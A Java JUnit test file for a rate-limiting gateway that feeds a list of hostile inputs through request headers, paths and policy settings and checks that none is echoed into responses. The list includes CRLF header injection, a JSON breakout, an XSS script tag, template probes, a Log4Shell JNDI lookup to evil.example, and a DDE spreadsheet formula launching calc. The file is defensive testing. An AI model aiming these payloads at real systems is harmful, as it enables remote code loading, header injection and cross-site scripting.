package dev.gatehouse.ratelimit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonToken;
import dev.gatehouse.InMemoryServer;
import dev.gatehouse.InvalidPolicyException;
import dev.gatehouse.Notation;
import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * That nothing a client or an operator writes breaks out of an answer: neither a header nor JSON. What clients write is
 * not in it at all, but for a request id that means nothing anywhere.
 */
final class EchoTest extends ServedPolicy {

    /** What breaks out of something, somewhere. */
    static final List<String> HOSTILE = List.of(
            "\"",
            "\\",
            "\"}",
            "\"},\"admin\":true,\"x\":{\"",
            "\\\"",
            "\\u0022",
            "\\u000d\\u000aSet-Cookie: a=b",
            "\\r\\nSet-Cookie: a=b",
            "%0d%0aSet-Cookie:%20a=b",
            "%0D%0A%0D%0A<html>",
            "%E5%98%8A%E5%98%8DSet-Cookie:a=b",
            "'",
            "`",
            "</script><script>alert(1)</script>",
            "<!--",
            "]]>",
            "*/",
            "{requestId}",
            "{{7*7}}",
            "${7*7}",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}",
            "$1",
            "%s%n",
            "{0}",
            "\u2028",
            "\u2029",
            "\u0085",
            "\u00a0",
            "\u00e9",
            "\u202etxt.exe",
            "\ufeff",
            "\ud83d\ude00",
            "\uffff",
            "=cmd|' /C calc'!A0",
            "; Max-Age=99999",
            ", x=y",
            "\"a\";r=999;t=0",
            "\"".repeat(8_000),
            "\\".repeat(8_000),
            "\u00e9".repeat(4_000),
            "a".repeat(8_000));

    /** How a client may bring a value in, and the headers in which servers take something from it. */
    static final List<String> CARRIERS = List.of(
            "X-Request-Id: %s",
            "X-Request-Id: a%s",
            "X-Request-Id: %s\nX-Request-Id: a",
            "X-API-Key: %s",
            "Authorization: Bearer %s",
            "Authorization: %s",
            "Cookie: device=%s",
            "Cookie: %s",
            "Origin: %s",
            "Origin: https://%s",
            "Access-Control-Request-Method: %s",
            "User-Agent: %s",
            "Referer: https://app.example/%s",
            "X-Forwarded-For: %s",
            "X-Forwarded-For: 192.0.2.1, %s",
            "X-Forwarded-Host: %s",
            "Accept: application/%s",
            "Accept-Language: %s",
            "Content-Type: %s",
            "Plan: %s",
            "RateLimit: %s",
            "Upgrade: %s",
            "%s: a");

    private static final String UUID = "[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}";

    private static final String EVERY_PLACEHOLDER = """
            { "identity": { "apiKey": { "keys": "%s", "unknown": "%s" },
                            "address": { "trustedProxies": ["0.0.0.0", "127.0.0.1"] } },
              "rules": [ { "name": "first", "by": "everyone", "limits": { "free": ["1/day"], "paid": ["2/day"] } },
                         { "name": "second", "by": ["apiKey", "cookie:device", "path"], "limits": ["1000/day"] } ],
              "defaultPlan": "free", "dialects": ["x-ratelimit"],
              "refusal": { "body": { "text": "{limit} {remaining} {reset} {resetAt} {retryAfter} {window} {rule} {plan} \
            {requestId} {timestamp} {violatedPolicies}", "id": "{requestId}", "plan": "{plan}", "rule": "{rule}" } } }
            """;

    @TempDir
    private Path folder = Path.of("");

    private void serve(String unknown) throws Exception {
        var keys = Files.writeString(folder.resolve("keys.json"), "{ \"keys\": [] }");
        start(EVERY_PLACEHOLDER.formatted(keys, unknown));
    }

    private String answer(String request) throws Exception {
        return running().exchange(request).replaceAll(UUID, "some UUID");
    }

    /** The answer is that to a client who brings nothing. */
    @ParameterizedTest
    @FieldSource("CARRIERS")
    void echoesNothingOfARequestThatIsOverItsLimit(String carrier) throws Exception {
        serve("address");
        assertThat(status("GET / HTTP/1.1")).isEqualTo(200);
        var plain = answer("GET / HTTP/1.1");
        assertThat(plain).startsWith("HTTP/1.1 429 ").contains("\"id\":\"some UUID\"");
        for (var value : HOSTILE) {
            var answer = answer("GET / HTTP/1.1\n" + carrier.replace("%s", value) + "\nAccept-Charset: *");
            if (answer.startsWith("HTTP/1.1 400 ")) {
                assertThat(carrier).as("where the container minds").isIn("Upgrade: %s", "%s: a");
                continue;
            }
            assertThat(answer).as(value).isEqualTo(plain);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"X-API-Key: %s", "Authorization: Bearer %s"})
    void echoesNoKeyThatItDoesNotKnow(String carrier) throws Exception {
        serve("reject");
        var plain = answer("GET / HTTP/1.1\nX-API-Key: made-up");
        assertThat(plain).startsWith("HTTP/1.1 401 ").contains("unknown_api_key");
        for (var value : HOSTILE) {
            assertThat(answer("GET / HTTP/1.1\n" + carrier.replace("%s", value) + "\nAccept-Charset: *"))
                    .as(value)
                    .isEqualTo(plain);
        }
    }

    /** Encoded as a browser does. What a container takes for ambiguous it refuses itself. */
    @ParameterizedTest
    @ValueSource(strings = {"/%s", "/a/%s/b", "/a;p=%s", "/?q=%s"})
    void echoesNothingOfAPath(String path) throws Exception {
        serve("address");
        assertThat(status("GET / HTTP/1.1")).isEqualTo(200);
        var plain = answer("GET / HTTP/1.1");
        var refused = 0;
        for (var value : HOSTILE) {
            var answer = answer("GET " + path.replace("%s", percents(value)) + " HTTP/1.1");
            refused += answer.equals(plain) ? 1 : 0;
            assertThat(answer)
                    .as(value)
                    .matches(text -> text.equals(plain) || text.startsWith("HTTP/1.1 400 "), "429 or 400");
        }
        assertThat(refused).as("as the filter refuses").isGreaterThan(20);
    }

    private static String percents(String value) {
        var encoded = new StringBuilder();
        for (var b : value.getBytes(StandardCharsets.UTF_8)) {
            encoded.append('%').append(HexFormat.of().toHexDigits(b));
        }
        return encoded.toString();
    }

    /** A request id that is safe comes back as it is, also where it is long; no other does. */
    @ParameterizedTest
    @ValueSource(strings = {"a", "0", "-", "req_abc-1.2:3", "A.b:C_d-9", "{128 x x}"})
    void echoesASafeRequestId(String written) throws Exception {
        serve("address");
        status("GET / HTTP/1.1");
        var id = Notation.read(written);
        var body = running().send("GET / HTTP/1.1\nX-Request-Id: " + id).body();
        assertThat(texts(body)).containsEntry("id", id);
        assertThat(texts(body).get("text")).contains(" " + id + " ");
    }

    /** What an operator writes comes out as it went in, in JSON that every parser reads. */
    @ParameterizedTest
    @FieldSource("HOSTILE")
    void writesWhatThePolicySaysAsItIs(String value) throws Exception {
        for (var name : List.of("x" + value, "x" + value + "\u0000", "x\r\n" + value)) {
            // A text is no placeholder here, and half of a pair of surrogates is no character in UTF-8.
            var text = name.replace('{', '(') + "\ud800";
            start("""
                    { "rules": [ { "name": "all", "limits": { %1$s: ["1/day"] } } ], "defaultPlan": %1$s,
                      "refusal": { "body": { "plan": "{plan}", "in": "<{plan}>", %1$s: 1, "text": %2$s } } }
                    """.formatted(json(name), json(text)));
            status("GET / HTTP/1.1");
            var answer = running().send("GET / HTTP/1.1");
            assertThat(answer.status()).isEqualTo(429);
            var bytes = answer.body().getBytes(StandardCharsets.ISO_8859_1);
            assertThat(answer.values("Content-Length")).containsExactly(String.valueOf(bytes.length));
            assertThat(texts(new String(bytes, StandardCharsets.UTF_8)))
                    .containsEntry("plan", name)
                    .containsEntry("in", "<" + name + ">")
                    .containsEntry("text", text.replace('\ud800', '?'));
            running().close();
        }
    }

    /** The names of limits are in headers, as strings of RFC 9651, and in problem details. */
    @ParameterizedTest
    @ValueSource(
            strings = {"\"", "\\", "say \"hi\" \\o/", "\";q=999", "\", \"b\";r=9", "</script>", "%0d%0a", "{limit}"})
    void writesTheNamesOfLimitsAsStrings(String name) throws Exception {
        start("""
                { "rules": [ { "name": "all", "limits": [ { "requests": 1, "window": "1d", "name": %s } ] } ],
                  "dialects": ["ratelimit"], "refusal": "problem" }
                """.formatted(json(name)));
        status("GET / HTTP/1.1");
        var answer = running().send("GET / HTTP/1.1");
        var string = "\"all:" + name.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
        assertThat(answer.values("RateLimit-Policy")).containsExactly(string + ";q=1;w=86400");
        assertThat(answer.values("RateLimit")).hasSize(1).first().asString().startsWith(string + ";r=0;t=");
        assertThat(answer.body()).endsWith("\"violated-policies\":[" + json("all:" + name) + "]}");
    }

    /** Whatever goes into a header is refused at start if no header can hold it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"limits\": [ { \"requests\": 1, \"window\": \"1d\", \"name\": \"%s\" } ]",
                "\"rules\": [ { \"name\": \"%s\", \"limits\": [\"1/day\"] } ]",
                "\"limits\": [\"1/day\"], \"by\": \"apiKey\", \"apiKeyHeader\": \"X%s\"",
                "\"limits\": [\"1/day\"], \"trustedProxies\": [\"::1\"], \"forwardedHeader\": \"X%s\"",
                "\"limits\": [\"1/day\"], \"refusal\": { \"contentType\": \"application/json%s\" }",
            })
    void takesNoSettingThatWouldEndAHeader(String setting) throws Exception {
        server = new InMemoryServer(context -> {});
        for (var end : List.of("\\r\\nSet-Cookie: a=b", "\\n", "\\r", "\\u0000", "\\u0085", "\\u2028", "\\u00e9")) {
            assertThatThrownBy(() -> policy("{ " + setting.formatted(end) + " }"))
                    .as(end)
                    .isInstanceOf(InvalidPolicyException.class);
        }
    }

    private static String json(String text) throws IOException {
        var json = new StringWriter();
        try (var generator = new JsonFactory().createGenerator(json)) {
            generator.writeString(text);
        }
        // Half of a pair can only be escaped.
        return json.toString()
                .chars()
                .mapToObj(c -> Character.isSurrogate((char) c) ? "\\u%04x".formatted(c) : String.valueOf((char) c))
                .collect(Collectors.joining());
    }

    /** Returns the members of an object that are texts; fails if it is not JSON to its end. */
    private static Map<String, String> texts(String body) throws IOException {
        var texts = new TreeMap<String, String>();
        var tokens = new ArrayList<JsonToken>();
        try (var parser = new JsonFactory().createParser(body)) {
            for (var token = parser.nextToken(); token != null; token = parser.nextToken()) {
                tokens.add(token);
                if (token == JsonToken.VALUE_STRING) {
                    texts.put(parser.currentName(), parser.getText());
                }
            }
        }
        assertThat(tokens).startsWith(JsonToken.START_OBJECT).endsWith(JsonToken.END_OBJECT);
        return texts;
    }
}
